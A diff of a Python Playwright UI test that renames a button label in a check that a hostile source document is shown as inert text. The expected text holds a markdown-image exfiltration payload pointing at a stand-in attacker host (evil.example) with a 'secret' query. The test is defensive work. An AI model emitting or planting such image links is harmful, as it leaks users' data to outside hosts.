@@ -50,7 +50,7 @@ def test_hostile_text_is_shown_as_text(visit: Open, hostile: str, address: str) 
 def test_a_hostile_original_is_shown_as_text(visit: Open, hostile: str) -> None:
     page = visit(f"#/ask?q={quote('How much does the Zanzibar permit cost?')}", user="olga")
 
-    page.get_by_role("button", name="Open the original of source 1", exact=True).click()
+    page.get_by_role("button", name="Open source 1", exact=True).click()
 
     text = page.get_by_role("dialog").locator(".text")
     expect(text).to_contain_text("![leak](https://evil.example/leak.png?secret)")
